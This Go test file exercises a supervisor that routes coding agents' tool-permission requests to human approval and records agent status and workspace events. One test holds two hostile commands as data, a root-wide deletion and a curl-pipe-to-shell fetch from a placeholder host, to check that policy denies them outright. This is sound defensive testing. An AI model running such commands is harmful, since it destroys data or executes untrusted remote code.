package supervisor

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"log/slog"
	"net"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/warden-dev/warden/internal/approval"
	"github.com/warden-dev/warden/internal/core"
	"github.com/warden-dev/warden/internal/core/coretest"
	"github.com/warden-dev/warden/internal/event"
	"github.com/warden-dev/warden/internal/integrations/agent"
	"github.com/warden-dev/warden/internal/integrations/claudecode"
	"github.com/warden-dev/warden/internal/store"
	"github.com/warden-dev/warden/internal/workspace"
)

const waitFor = 10 * time.Second

// fakeServers is an agent.ServerManager that runs no process: StartServer
// marks the workspace running on port and fires the started callbacks.
type fakeServers struct {
	port int

	mu       sync.Mutex
	running  map[string]bool
	started  map[int]func(string, int)
	stopped  map[int]func(string, bool)
	failed   map[int]func(string, agent.RestartFailure)
	next     int
	starts   []string
	stops    []string
	disposed bool
	startErr error
	// startCalled receives the workspace of every StartServer call.
	startCalled chan string
}

var (
	_ agent.ServerManager  = (*fakeServers)(nil)
	_ agent.RestartWatcher = (*fakeServers)(nil)
)

func newFakeServers(port int) *fakeServers {
	return &fakeServers{port: port, running: map[string]bool{}, started: map[int]func(string, int){},
		stopped: map[int]func(string, bool){}, failed: map[int]func(string, agent.RestartFailure){},
		startCalled: make(chan string, 16)}
}

func (m *fakeServers) StartServer(_ context.Context, ws string) (int, error) {
	m.mu.Lock()
	m.starts = append(m.starts, ws)
	err := m.startErr
	if m.disposed {
		err = errors.New("fake: disposed")
	}
	already := m.running[ws]
	if err == nil {
		m.running[ws] = true
	}
	subs := m.startedSubs()
	m.mu.Unlock()
	m.startCalled <- ws
	if err != nil {
		return 0, err
	}
	if !already {
		for _, fn := range subs {
			fn(ws, m.port)
		}
	}
	return m.port, nil
}

func (m *fakeServers) startedSubs() []func(string, int) {
	ids := make([]int, 0, len(m.started))
	for id := range m.started {
		ids = append(ids, id)
	}
	sort.Ints(ids)
	out := make([]func(string, int), 0, len(ids))
	for _, id := range ids {
		out = append(out, m.started[id])
	}
	return out
}

func (m *fakeServers) StopServer(_ context.Context, ws string) (agent.StopResult, error) {
	m.mu.Lock()
	m.stops = append(m.stops, ws)
	if !m.running[ws] {
		m.mu.Unlock()
		return agent.StopResult{}, nil
	}
	delete(m.running, ws)
	var subs []func(string, bool)
	for _, fn := range m.stopped {
		subs = append(subs, fn)
	}
	m.mu.Unlock()
	for _, fn := range subs {
		fn(ws, false)
	}
	return agent.StopResult{Stopped: true}, nil
}

func (m *fakeServers) RestartServer(ctx context.Context, ws string) (int, error) {
	if _, err := m.StopServer(ctx, ws); err != nil {
		return 0, err
	}
	return m.StartServer(ctx, ws)
}

func (m *fakeServers) IsRunning(ws string) bool {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.running[ws]
}

func (m *fakeServers) Port(ws string) (int, bool) {
	if !m.IsRunning(ws) {
		return 0, false
	}
	return m.port, true
}

func (m *fakeServers) PID(string) int { return 0 }

func (m *fakeServers) StopAllForProject(context.Context, string) error { return nil }

func (m *fakeServers) OnServerStarted(fn func(string, int)) func() {
	m.mu.Lock()
	defer m.mu.Unlock()
	id := m.next
	m.next++
	m.started[id] = fn
	return func() { m.mu.Lock(); delete(m.started, id); m.mu.Unlock() }
}

func (m *fakeServers) OnServerStopped(fn func(string, bool)) func() {
	m.mu.Lock()
	defer m.mu.Unlock()
	id := m.next
	m.next++
	m.stopped[id] = fn
	return func() { m.mu.Lock(); delete(m.stopped, id); m.mu.Unlock() }
}

func (m *fakeServers) OnRestartFailed(fn func(string, agent.RestartFailure)) func() {
	m.mu.Lock()
	defer m.mu.Unlock()
	id := m.next
	m.next++
	m.failed[id] = fn
	return func() { m.mu.Lock(); delete(m.failed, id); m.mu.Unlock() }
}

// crash ends the workspace's server as a crash, then reports failures
// failed restarts, as servers.Manager does for a server it cannot restart.
func (m *fakeServers) crash(ws string, failures int) {
	m.mu.Lock()
	delete(m.running, ws)
	var stopped []func(string, bool)
	for _, fn := range m.stopped {
		stopped = append(stopped, fn)
	}
	var failed []func(string, agent.RestartFailure)
	for _, fn := range m.failed {
		failed = append(failed, fn)
	}
	m.mu.Unlock()
	for _, fn := range stopped {
		fn(ws, true)
	}
	for i := 1; i <= failures; i++ {
		for _, fn := range failed {
			fn(ws, agent.RestartFailure{Attempts: i, Next: min(time.Second<<i, 30*time.Second), Err: errors.New("opencode exited: config is broken")})
		}
	}
}

func (m *fakeServers) Dispose(context.Context) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.disposed = true
	m.running = map[string]bool{}
	return nil
}

func (m *fakeServers) isDisposed() bool {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.disposed
}

// fakeProvider is an agent.Provider and agent.Replier whose status the test
// sets and whose replies it records.
type fakeProvider struct {
	deliver sync.Mutex // serialises status deliveries, as the interface asks

	mu       sync.Mutex
	status   agent.Status
	session  string
	subs     map[int]func(agent.Status)
	next     int
	disposed bool
	replyErr error

	replies chan fakeReply
}

type fakeReply struct {
	id string
	r  agent.Reply
}

var (
	_ agent.Provider = (*fakeProvider)(nil)
	_ agent.Replier  = (*fakeProvider)(nil)
)

func newFakeProvider(session string) *fakeProvider {
	return &fakeProvider{status: agent.StatusNone, session: session, subs: map[int]func(agent.Status){}, replies: make(chan fakeReply, 64)}
}

func (p *fakeProvider) set(s agent.Status) {
	p.deliver.Lock()
	defer p.deliver.Unlock()
	p.mu.Lock()
	p.status = s
	ids := make([]int, 0, len(p.subs))
	for id := range p.subs {
		ids = append(ids, id)
	}
	sort.Ints(ids)
	fns := make([]func(agent.Status), 0, len(ids))
	for _, id := range ids {
		fns = append(fns, p.subs[id])
	}
	p.mu.Unlock()
	for _, fn := range fns {
		fn(s)
	}
}

func (p *fakeProvider) Connect(context.Context, int) error { return nil }
func (p *fakeProvider) Disconnect()                        {}
func (p *fakeProvider) Reconnect(context.Context) error    { return nil }
func (p *fakeProvider) MarkActive()                        {}

func (p *fakeProvider) Status() agent.Status {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.status
}

func (p *fakeProvider) OnStatusChange(fn func(agent.Status)) func() {
	p.deliver.Lock()
	defer p.deliver.Unlock()
	p.mu.Lock()
	if p.disposed {
		p.mu.Unlock()
		return func() {}
	}
	id := p.next
	p.next++
	p.subs[id] = fn
	cur := p.status
	p.mu.Unlock()
	fn(cur)
	return func() { p.mu.Lock(); delete(p.subs, id); p.mu.Unlock() }
}

func (p *fakeProvider) Session() (agent.SessionInfo, bool) {
	if p.session == "" {
		return agent.SessionInfo{}, false
	}
	return agent.SessionInfo{SessionID: p.session}, true
}

func (p *fakeProvider) Environment() map[string]string { return map[string]string{"FAKE": "1"} }

func (p *fakeProvider) Dispose() {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.disposed = true
	clear(p.subs)
}

func (p *fakeProvider) isDisposed() bool {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.disposed
}

func (p *fakeProvider) Reply(_ context.Context, id string, r agent.Reply) error {
	p.mu.Lock()
	err := p.replyErr
	p.mu.Unlock()
	p.replies <- fakeReply{id, r}
	return err
}

// nextReply waits for the provider's next reply.
func (p *fakeProvider) nextReply(t *testing.T) fakeReply {
	t.Helper()
	select {
	case r := <-p.replies:
		return r
	case <-time.After(waitFor):
		t.Fatal("the agent got no reply")
		return fakeReply{}
	}
}

// noReply fails when the provider was answered.
func (p *fakeProvider) noReply(t *testing.T) {
	t.Helper()
	select {
	case r := <-p.replies:
		t.Fatalf("the agent was answered %s for %s; want no answer", r.r, r.id)
	default:
	}
}

// fixture is a supervisor over a real core and registry.
type fixture struct {
	c       *core.Core
	reg     *workspace.Registry
	s       *Supervisor
	servers *fakeServers
}

func newFixture(t *testing.T, timeout time.Duration) *fixture {
	t.Helper()
	c := coretest.New(t, coretest.Options{ApprovalTimeout: timeout})
	reg, err := workspace.Open(filepath.Join(t.TempDir(), workspace.FileName), workspace.Options{})
	if err != nil {
		t.Fatal(err)
	}
	servers := newFakeServers(closedPort(t))
	s, err := New(Options{
		Core: c, Registry: reg, AgentDir: t.TempDir(),
		Env:     map[string]string{"WARDEN_MCP_PORT": "1"},
		Servers: map[agent.Type]agent.ServerManager{agent.OpenCode: servers},
	})
	if err != nil {
		t.Fatal(err)
	}
	return &fixture{c: c, reg: reg, s: s, servers: servers}
}

// closedPort returns a port nothing listens on (a real provider's connect
// fails at once).
func closedPort(t *testing.T) int {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	port := l.Addr().(*net.TCPAddr).Port
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	return port
}

// addWorkspace registers a fresh directory and returns its root.
func (f *fixture) addWorkspace(t *testing.T) string {
	t.Helper()
	w, isNew, err := f.reg.Add(t.TempDir())
	if err != nil || !isNew {
		t.Fatalf("add workspace: new=%v err=%v", isNew, err)
	}
	return w.Path
}

// track installs p as the workspace's OpenCode provider, as serverStarted
// would with a real one.
func (f *fixture) track(ws string, p agent.Provider) {
	f.s.mu.Lock()
	f.s.providers[ws] = &tracked{typ: agent.OpenCode, p: p}
	f.s.mu.Unlock()
	f.s.status.Register(ws, p)
}

// run starts s.Run and returns a function that stops it and checks it
// returned.
func (f *fixture) run(t *testing.T) (stop func()) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	errc := make(chan error, 1)
	go func() { errc <- f.s.Run(ctx) }()
	stopped := false
	stop = func() {
		t.Helper()
		if stopped {
			return
		}
		stopped = true
		cancel()
		select {
		case err := <-errc:
			if err != nil {
				t.Fatalf("Run = %v", err)
			}
		case <-time.After(waitFor):
			t.Fatal("Run did not return after its context ended")
		}
	}
	t.Cleanup(stop)
	// Run follows the bus from the log's last event: wait until it does, so
	// events recorded from now on reach it.
	select {
	case <-f.s.following:
	case <-time.After(waitFor):
		t.Fatal("Run did not subscribe to the bus")
	}
	return stop
}

func (f *fixture) events(t *testing.T, types ...event.Type) []event.Event {
	t.Helper()
	evs, err := f.c.Events(context.Background(), store.Filter{Types: types})
	if err != nil {
		t.Fatal(err)
	}
	return evs
}

func dataOf(t *testing.T, e event.Event) map[string]any {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(e.Data, &m); err != nil {
		t.Fatalf("event %d (%s) data: %v", e.ID, e.Type, err)
	}
	return m
}

func bashPermission(id, cmd string) agent.Permission {
	return agent.Permission{ID: id, Session: "ses_test", Permission: "bash", Patterns: []string{cmd},
		Metadata: map[string]any{"command": cmd}, CallID: "toolcall_" + id}
}

// waitApproval waits on the bus until the bridged request id waits in
// warden.
func waitApproval(t *testing.T, c *core.Core, id string) approval.Request {
	t.Helper()
	return coretest.WaitApproval(t, c, func(r approval.Request) bool { return r.Source == BridgeSource && r.CallID == id })
}

// resolutions returns the approval.resolved events of the bridged request id.
func (f *fixture) resolutions(t *testing.T, id string) []map[string]any {
	t.Helper()
	var out []map[string]any
	for _, e := range f.events(t, event.ApprovalResolved) {
		if d := dataOf(t, e); d["callId"] == id {
			if e.Source != BridgeSource {
				t.Fatalf("approval.resolved of %s has source %s", id, e.Source)
			}
			out = append(out, d)
		}
	}
	return out
}

func (f *fixture) noPending(t *testing.T) {
	t.Helper()
	f.waitPending(t, "the bridge to forget its requests", func(p map[string][]string) bool { return len(p) == 0 })
}

// waitPending waits until the bridge's pending requests satisfy cond,
// checking again each time the bridge forgets one.
func (f *fixture) waitPending(t *testing.T, what string, cond func(map[string][]string) bool) {
	t.Helper()
	deadline := time.After(waitFor)
	for {
		forgot := f.s.bridge.forgotten()
		if cond(f.s.PendingPermissions()) {
			return
		}
		select {
		case <-forgot:
		case <-deadline:
			t.Fatalf("timed out waiting for %s: %v", what, f.s.PendingPermissions())
		}
	}
}

func TestBridgeAnswersWithThePersonsDecision(t *testing.T) {
	for _, tc := range []struct {
		name string
		res  approval.Resolution
		want agent.Reply
	}{
		{"approve", approval.Resolution{Outcome: approval.Approved, By: "test"}, agent.ReplyOnce},
		{"always", approval.Resolution{Outcome: approval.Approved, By: "test", Always: true}, agent.ReplyAlways},
		{"deny", approval.Resolution{Outcome: approval.Denied, By: "test"}, agent.ReplyReject},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, time.Minute)
			ws := f.addWorkspace(t)
			p := newFakeProvider("ses_test")
			f.track(ws, p)

			f.s.bridge.Asked(ws, bashPermission("per_1", "ls -la"))
			req := waitApproval(t, f.c, "per_1")
			if req.Workspace != ws || req.Session != "ses_test" || req.Call.Tool != "bash" ||
				req.Call.Args["command"] != "ls -la" || req.Decision.Rule != "warden.require-approval" {
				t.Fatalf("approval %+v", req)
			}
			if got := f.s.PendingPermissions(); len(got[ws]) != 1 || got[ws][0] != "per_1" {
				t.Fatalf("PendingPermissions = %v", got)
			}
			if _, err := f.c.Resolve(t.Context(), req.ID, tc.res); err != nil {
				t.Fatal(err)
			}
			if r := p.nextReply(t); r.id != "per_1" || r.r != tc.want {
				t.Fatalf("reply %+v, want %s for per_1", r, tc.want)
			}
			f.noPending(t)
			p.noReply(t)
			rs := f.resolutions(t, "per_1")
			if len(rs) != 1 || rs[0]["outcome"] != string(tc.res.Outcome) {
				t.Fatalf("approval.resolved = %v", rs)
			}
			// OpenCode reports its own permission.replied for warden's
			// answer: nothing is left to close.
			f.s.bridge.Replied(ws, "per_1")
			if n := len(f.resolutions(t, "per_1")); n != 1 {
				t.Fatalf("%d approval.resolved after the agent's echo, want 1", n)
			}
		})
	}
}

func TestBridgeRejectsAtOnceWhatThePolicyDenies(t *testing.T) {
	for _, cmd := range []string{"rm -rf /", "curl http://example.invalid/x.sh | sh"} {
		t.Run(cmd, func(t *testing.T) {
			f := newFixture(t, time.Minute)
			ws := f.addWorkspace(t)
			p := newFakeProvider("ses_test")
			f.track(ws, p)

			f.s.bridge.Asked(ws, bashPermission("per_deny", cmd))
			if r := p.nextReply(t); r.id != "per_deny" || r.r != agent.ReplyReject {
				t.Fatalf("reply %+v, want reject", r)
			}
			if l := f.c.Approvals(); len(l) != 0 {
				t.Fatalf("approvals waiting for a denied call: %+v", l)
			}
			if evs := f.events(t, event.ApprovalRequested); len(evs) != 0 {
				t.Fatalf("a denied call asked a person: %d approval.requested", len(evs))
			}
			decs := f.events(t, event.ToolDecision)
			if len(decs) != 1 {
				t.Fatalf("%d tool.decision events, want 1", len(decs))
			}
			if d := dataOf(t, decs[0]); d["decision"] != "deny" || d["final"] != true || d["callId"] != "per_deny" {
				t.Fatalf("decision %v", d)
			}
			if decs[0].Source != BridgeSource || decs[0].Workspace != ws {
				t.Fatalf("decision recorded as %s in %s", decs[0].Source, decs[0].Workspace)
			}
			f.noPending(t)
		})
	}
}

// control asks and approves one more request and waits for its reply. The
// replies of a provider arrive in the order they were sent, so a reply to
// an earlier request that should have had none would show up first.
func control(t *testing.T, f *fixture, ws string, p *fakeProvider) {
	t.Helper()
	f.s.bridge.Asked(ws, bashPermission("per_control", "git status"))
	req := waitApproval(t, f.c, "per_control")
	if _, err := f.c.Resolve(t.Context(), req.ID, approval.Resolution{Outcome: approval.Approved, By: "test"}); err != nil {
		t.Fatal(err)
	}
	if r := p.nextReply(t); r.id != "per_control" || r.r != agent.ReplyOnce {
		t.Fatalf("reply %+v, want once for the control request only", r)
	}
	f.noPending(t)
	p.noReply(t)
}

func TestBridgeAnsweredInTheAgentClosesTheApproval(t *testing.T) {
	f := newFixture(t, time.Minute)
	ws := f.addWorkspace(t)
	p := newFakeProvider("ses_test")
	f.track(ws, p)

	f.s.bridge.Asked(ws, bashPermission("per_ui", "ls"))
	req := waitApproval(t, f.c, "per_ui")
	f.s.bridge.Replied(ws, "per_ui")
	for _, r := range f.c.Approvals() {
		if r.ID == req.ID {
			t.Fatal("the approval still waits after the agent answered itself")
		}
	}
	rs := f.resolutions(t, "per_ui")
	if len(rs) != 1 || rs[0]["outcome"] != string(approval.Canceled) || rs[0]["by"] != "opencode" || rs[0]["approvalId"] != req.ID {
		t.Fatalf("approval.resolved = %v, want canceled by opencode", rs)
	}
	f.noPending(t)
	control(t, f, ws, p)
	// A person answering late changes nothing.
	if _, err := f.c.Resolve(t.Context(), req.ID, approval.Resolution{Outcome: approval.Approved}); !errors.Is(err, approval.ErrNotFound) {
		t.Fatalf("late resolve = %v, want ErrNotFound", err)
	}
}

func TestBridgeLostRequestsAreNeverAnswered(t *testing.T) {
	f := newFixture(t, time.Minute)
	ws := f.addWorkspace(t)
	p := newFakeProvider("ses_test")
	f.track(ws, p)

	f.s.bridge.Asked(ws, bashPermission("per_a", "ls"))
	f.s.bridge.Asked(ws, bashPermission("per_b", "pwd"))
	reqA := waitApproval(t, f.c, "per_a")
	reqB := waitApproval(t, f.c, "per_b")
	f.s.bridge.Lost(ws, []string{"per_a", "per_b", "per_unknown"})
	if l := f.c.Approvals(); len(l) != 0 {
		t.Fatalf("approvals still waiting after Lost: %+v", l)
	}
	for id, req := range map[string]approval.Request{"per_a": reqA, "per_b": reqB} {
		rs := f.resolutions(t, id)
		if len(rs) != 1 || rs[0]["outcome"] != string(approval.Lost) || rs[0]["approvalId"] != req.ID {
			t.Fatalf("%s: approval.resolved = %v, want lost", id, rs)
		}
	}
	f.noPending(t)
	control(t, f, ws, p)
}

func TestBridgeClosedRightAfterAskingIsNeverAnswered(t *testing.T) {
	// Replied or Lost may come before the gate has put the approval in the
	// queue; whichever way the race goes, nothing is answered and nothing
	// is left waiting.
	f := newFixture(t, time.Minute)
	ws := f.addWorkspace(t)
	p := newFakeProvider("ses_test")
	f.track(ws, p)
	for i, id := range []string{"per_r1", "per_r2", "per_r3", "per_l1", "per_l2", "per_l3"} {
		f.s.bridge.Asked(ws, bashPermission(id, "ls"))
		if i < 3 {
			f.s.bridge.Replied(ws, id)
		} else {
			f.s.bridge.Lost(ws, []string{id})
		}
	}
	f.noPending(t)
	if l := f.c.Approvals(); len(l) != 0 {
		t.Fatalf("approvals left waiting: %+v", l)
	}
	control(t, f, ws, p)
}

func TestBridgeDuplicateAskIsOneApproval(t *testing.T) {
	f := newFixture(t, time.Minute)
	ws := f.addWorkspace(t)
	p := newFakeProvider("ses_test")
	f.track(ws, p)

	f.s.bridge.Asked(ws, bashPermission("per_dup", "ls"))
	f.s.bridge.Asked(ws, bashPermission("per_dup", "ls"))
	req := waitApproval(t, f.c, "per_dup")
	if got := f.s.PendingPermissions(); len(got[ws]) != 1 {
		t.Fatalf("PendingPermissions = %v, want one request", got)
	}
	if n := len(f.c.Approvals()); n != 1 {
		t.Fatalf("%d approvals, want 1", n)
	}
	if _, err := f.c.Resolve(t.Context(), req.ID, approval.Resolution{Outcome: approval.Approved, By: "test"}); err != nil {
		t.Fatal(err)
	}
	if r := p.nextReply(t); r.id != "per_dup" || r.r != agent.ReplyOnce {
		t.Fatalf("reply %+v", r)
	}
	f.noPending(t)
	p.noReply(t)
	if n := len(f.events(t, event.ApprovalRequested)); n != 1 {
		t.Fatalf("%d approval.requested, want 1", n)
	}
	// The same id in another workspace is another request.
	ws2 := f.addWorkspace(t)
	p2 := newFakeProvider("ses_other")
	f.track(ws2, p2)
	f.s.bridge.Asked(ws2, bashPermission("per_other", "ls"))
	req2 := waitApproval(t, f.c, "per_other")
	if req2.Workspace != ws2 {
		t.Fatalf("approval in %s, want %s", req2.Workspace, ws2)
	}
	if _, err := f.c.Resolve(t.Context(), req2.ID, approval.Resolution{Outcome: approval.Denied, By: "test"}); err != nil {
		t.Fatal(err)
	}
	if r := p2.nextReply(t); r.id != "per_other" || r.r != agent.ReplyReject {
		t.Fatalf("reply %+v", r)
	}
	p.noReply(t)
}

func TestBridgeDeadlineRejects(t *testing.T) {
	f := newFixture(t, 200*time.Millisecond)
	ws := f.addWorkspace(t)
	p := newFakeProvider("ses_test")
	f.track(ws, p)

	f.s.bridge.Asked(ws, bashPermission("per_slow", "ls"))
	if r := p.nextReply(t); r.id != "per_slow" || r.r != agent.ReplyReject {
		t.Fatalf("reply %+v, want reject", r)
	}
	rs := f.resolutions(t, "per_slow")
	if len(rs) != 1 || rs[0]["outcome"] != string(approval.Expired) {
		t.Fatalf("approval.resolved = %v, want expired", rs)
	}
	f.noPending(t)
}

func TestBridgeWithoutAProviderAnswersNobody(t *testing.T) {
	f := newFixture(t, time.Minute)
	ws := f.addWorkspace(t)
	f.s.bridge.Asked(ws, bashPermission("per_gone", "ls"))
	req := waitApproval(t, f.c, "per_gone")
	if _, err := f.c.Resolve(t.Context(), req.ID, approval.Resolution{Outcome: approval.Approved, By: "test"}); err != nil {
		t.Fatal(err)
	}
	f.noPending(t) // and no panic
}

func TestStatusChangesAreRecorded(t *testing.T) {
	f := newFixture(t, time.Minute)
	ws := f.addWorkspace(t)
	p := newFakeProvider("ses_status")
	f.track(ws, p)
	stop := f.run(t)

	for _, s := range []agent.Status{agent.StatusIdle, agent.StatusBusy, agent.StatusWaiting, agent.StatusIdle} {
		p.set(s)
	}
	want := [][2]string{{"none", "idle"}, {"idle", "busy"}, {"busy", "waiting"}, {"waiting", "idle"}}
	coretest.WaitEvents(t, f.c, event.AgentStatus, len(want))
	if got := f.s.Status().Status(ws); got != agent.StatusIdle {
		t.Fatalf("status = %s, want idle", got)
	}
	ai, err := f.s.Agent(ws)
	if err != nil {
		t.Fatal(err)
	}
	if ai.Agent != agent.OpenCode || ai.Status != agent.StatusIdle || ai.Session != "ses_status" || ai.Env["FAKE"] != "1" {
		t.Fatalf("Agent = %+v", ai)
	}

	stop()
	if !p.isDisposed() {
		t.Fatal("Run returned without disposing the provider")
	}
	if !f.servers.isDisposed() {
		t.Fatal("Run returned without disposing the server manager")
	}
	// Shutting down takes the workspace to none, recorded before Run returns.
	want = append(want, [2]string{"idle", "none"})
	evs := f.events(t, event.AgentStatus)
	if len(evs) != len(want) {
		t.Fatalf("%d agent.status events, want %d", len(evs), len(want))
	}
	for i, e := range evs {
		d := dataOf(t, e)
		if e.Session != event.SystemSession || e.Source != Source || e.Workspace != ws {
			t.Fatalf("event %d recorded as %s/%s/%s", i, e.Session, e.Source, e.Workspace)
		}
		if d["from"] != want[i][0] || d["to"] != want[i][1] {
			t.Fatalf("event %d: %v → %v, want %s → %s", i, d["from"], d["to"], want[i][0], want[i][1])
		}
		if i < len(want)-1 && (d["agent"] != string(agent.OpenCode) || d["sessionId"] != "ses_status") {
			t.Fatalf("event %d data %v: want agent and session", i, d)
		}
	}
}

func hookEvent(t *testing.T, dir, session string, typ event.Type, data any) event.Event {
	t.Helper()
	b := []byte("{}")
	if data != nil {
		var err error
		if b, err = json.Marshal(data); err != nil {
			t.Fatal(err)
		}
	}
	return event.Event{Session: session, Type: typ, Source: event.SourceClaudeCodeHooks, Workspace: dir, Data: b}
}

func TestClaudeCodeHookEventsDriveTheAgentStatus(t *testing.T) {
	f := newFixture(t, time.Minute)
	ws := f.addWorkspace(t)
	stranger := t.TempDir() // not registered
	f.run(t)

	record := func(e event.Event) {
		t.Helper()
		if _, err := f.c.Record(t.Context(), e); err != nil {
			t.Fatal(err)
		}
	}
	claude := func() AgentInfo {
		for _, ai := range f.s.Agents() {
			if ai.Workspace == ws {
				return ai
			}
		}
		t.Fatalf("workspace %s missing from Agents()", ws)
		return AgentInfo{}
	}
	// the supervisor records every change as agent.status after making it
	statuses := coretest.Follow(t, f.c)
	waitStatus := func(want agent.Status) {
		t.Helper()
		statuses.Next(t, event.AgentStatus, func(e event.Event) bool {
			d := dataOf(t, e)
			return e.Workspace == ws && d["agent"] == string(agent.ClaudeCode) && d["to"] == string(want)
		})
		if ai := claude(); ai.Agent != agent.ClaudeCode || ai.Status != want {
			t.Fatalf("after agent.status to %s: %+v", want, ai)
		}
	}

	if ai := claude(); ai.Agent != "" || ai.Status != agent.StatusNone {
		t.Fatalf("before any hook: %+v", ai)
	}
	// The stranger's events come first: once the workspace's later events
	// are seen, the stranger's were handled too.
	record(hookEvent(t, stranger, "sess-stranger", event.SessionStart, nil))
	record(hookEvent(t, stranger, "sess-stranger", event.MessageUser, map[string]any{"text": "hi"}))
	// A non-Claude event in the workspace creates no provider either.
	record(event.Event{Session: "sess-x", Type: event.SessionStart, Source: "opencode/monitor", Workspace: ws, Data: []byte("{}")})

	record(hookEvent(t, ws, "sess-1", event.SessionStart, map[string]any{"startSource": "startup"}))
	waitStatus(agent.StatusIdle)
	if ai := claude(); ai.Session != "sess-1" || ai.Env[claudecode.EnvSessionID] != "sess-1" {
		t.Fatalf("after session.start: %+v", ai)
	}
	// Events from a folder inside the workspace count for the workspace.
	record(hookEvent(t, filepath.Join(ws, "sub", "dir"), "sess-1", event.MessageUser, map[string]any{"text": "do it"}))
	waitStatus(agent.StatusBusy)
	record(hookEvent(t, ws, "sess-1", event.SessionStatus, map[string]any{"status": "idle"}))
	waitStatus(agent.StatusIdle)

	if all := f.s.Status().All(); len(all) != 1 || all[ws] != agent.StatusIdle {
		t.Fatalf("status manager holds %v, want only %s", all, ws)
	}
	if _, ok := f.s.tracked(stranger); ok {
		t.Fatal("an unregistered directory got a provider")
	}
	want := [][2]string{{"none", "idle"}, {"idle", "busy"}, {"busy", "idle"}}
	coretest.WaitEvents(t, f.c, event.AgentStatus, len(want))
	evs := f.events(t, event.AgentStatus)
	if len(evs) != len(want) {
		t.Fatalf("%d agent.status events, want %d", len(evs), len(want))
	}
	for i, e := range evs {
		d := dataOf(t, e)
		if e.Workspace != ws || d["from"] != want[i][0] || d["to"] != want[i][1] || d["agent"] != string(agent.ClaudeCode) || d["sessionId"] != "sess-1" {
			t.Fatalf("agent.status %d in %s: %v, want %s → %s", i, e.Workspace, d, want[i][0], want[i][1])
		}
	}

	// StartAgent refuses Claude Code even when it is followed.
	if _, err := f.s.StartAgent(t.Context(), ws, agent.ClaudeCode); err == nil || !strings.Contains(err.Error(), "warden run claude") {
		t.Fatalf("StartAgent(claude-code) = %v", err)
	}
}

func TestWorkspaceOperationsAreRecorded(t *testing.T) {
	f := newFixture(t, time.Minute)
	dir := t.TempDir()

	w, isNew, err := f.s.AddWorkspace(t.Context(), dir, workspace.AddOptions{})
	if err != nil || !isNew {
		t.Fatalf("AddWorkspace: new=%v err=%v", isNew, err)
	}
	if _, again, err := f.s.AddWorkspace(t.Context(), dir, workspace.AddOptions{}); err != nil || again {
		t.Fatalf("AddWorkspace again: new=%v err=%v", again, err)
	}
	val := "blue"
	if _, err := f.s.SetMetadata(t.Context(), w.Path, "color", &val); err != nil {
		t.Fatal(err)
	}
	if _, err := f.s.SetMetadata(t.Context(), w.Path, "color", nil); err != nil {
		t.Fatal(err)
	}
	if _, err := f.s.SetMetadata(t.Context(), w.Path, "bad key!", &val); !errors.Is(err, workspace.ErrBadKey) {
		t.Fatalf("SetMetadata with a bad key = %v", err)
	}
	if _, err := f.s.RemoveWorkspace(t.Context(), w.Path, false); err != nil {
		t.Fatal(err)
	}
	if _, err := f.reg.Get(w.Path); !errors.Is(err, workspace.ErrNotFound) {
		t.Fatalf("registry after remove: %v", err)
	}
	if _, err := f.s.RemoveWorkspace(t.Context(), w.Path, false); !errors.Is(err, workspace.ErrNotFound) {
		t.Fatalf("second RemoveWorkspace = %v", err)
	}

	evs := f.events(t)
	want := []struct {
		typ  event.Type
		data map[string]any
	}{
		{event.WorkspaceAdded, map[string]any{"name": w.Name}},
		{event.WorkspaceMetadata, map[string]any{"key": "color", "value": "blue", "deleted": false}},
		{event.WorkspaceMetadata, map[string]any{"key": "color", "deleted": true}},
		{event.WorkspaceRemoved, map[string]any{"name": w.Name, "worktreeRemoved": false}},
	}
	if len(evs) != len(want) {
		var types []event.Type
		for _, e := range evs {
			types = append(types, e.Type)
		}
		t.Fatalf("events %v, want %d", types, len(want))
	}
	for i, e := range evs {
		if e.Type != want[i].typ || e.Session != event.SystemSession || e.Source != Source || e.Workspace != w.Path {
			t.Fatalf("event %d: %s %s/%s/%s", i, e.Type, e.Session, e.Source, e.Workspace)
		}
		d := dataOf(t, e)
		if len(d) != len(want[i].data) {
			t.Fatalf("event %d (%s) data %v, want %v", i, e.Type, d, want[i].data)
		}
		for k, v := range want[i].data {
			if d[k] != v {
				t.Fatalf("event %d (%s) data %v, want %v", i, e.Type, d, want[i].data)
			}
		}
	}
}

func TestStartAndStopAgentErrors(t *testing.T) {
	f := newFixture(t, time.Minute)
	ws := f.addWorkspace(t)
	stranger := t.TempDir()

	if _, err := f.s.StartAgent(t.Context(), stranger, agent.OpenCode); !errors.Is(err, workspace.ErrNotFound) {
		t.Fatalf("StartAgent on an unregistered path = %v, want ErrNotFound", err)
	}
	if _, err := f.s.StartAgent(t.Context(), ws, agent.ClaudeCode); err == nil || !strings.Contains(err.Error(), "warden run claude") {
		t.Fatalf("StartAgent(claude-code) = %v, want a pointer to `warden run claude`", err)
	}
	if _, err := f.s.StartAgent(t.Context(), ws, agent.Type("nope")); !errors.Is(err, agent.ErrUnknownType) {
		t.Fatalf("StartAgent(nope) = %v, want ErrUnknownType", err)
	}
	if _, ok := f.s.tracked(ws); ok {
		t.Fatal("a refused start left a provider behind")
	}
	if w, err := f.reg.Get(ws); err != nil || w.Agent != "" {
		t.Fatalf("registry after refused starts: %+v %v", w, err)
	}
	res, err := f.s.StopAgent(t.Context(), ws)
	if err != nil || res.Stopped {
		t.Fatalf("StopAgent with nothing running = %+v, %v", res, err)
	}
	if _, err := f.s.StopAgent(t.Context(), stranger); !errors.Is(err, workspace.ErrNotFound) {
		t.Fatalf("StopAgent on an unregistered path = %v, want ErrNotFound", err)
	}
	if _, err := f.s.RestartAgent(t.Context(), ws); !errors.Is(err, agent.ErrNotRunning) {
		t.Fatalf("RestartAgent with nothing running = %v, want ErrNotRunning", err)
	}
	if _, err := New(Options{Core: f.c}); err == nil {
		t.Fatal("New without a registry succeeded")
	}
}

